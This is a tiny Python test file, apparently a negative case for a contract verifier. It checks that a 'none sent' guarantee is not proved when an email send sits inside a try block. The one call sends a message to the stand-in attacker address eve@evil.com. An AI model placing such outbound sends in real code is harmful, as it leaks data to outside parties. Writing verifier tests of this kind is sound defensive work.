# not proved: what stands in a try block runs
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    try:
        send_email("eve@evil.com", "x")
    except Exception:
        log("failed")
